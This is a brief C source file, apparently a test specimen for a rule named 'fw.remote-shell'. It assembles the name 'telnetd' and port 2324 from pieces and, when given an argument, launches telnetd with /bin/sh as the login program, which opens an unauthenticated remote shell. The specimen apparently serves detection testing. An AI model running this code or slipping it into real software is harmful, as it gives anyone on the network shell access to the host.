/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.remote-shell: the command put together from parts, run without a shell around it. */
#include "specimen.h"

int main(int argc, char **argv)
{
	char name[16], port[8];
	(void)argv;
	snprintf(name, sizeof(name), "%s%c", "telnet", 'd');
	snprintf(port, sizeof(port), "%d", 2300 + 24);
	if (argc < 2)
		return 0;
	return execlp(name, name, "-p", port, "-l", "/bin/sh", (char *)NULL);
}
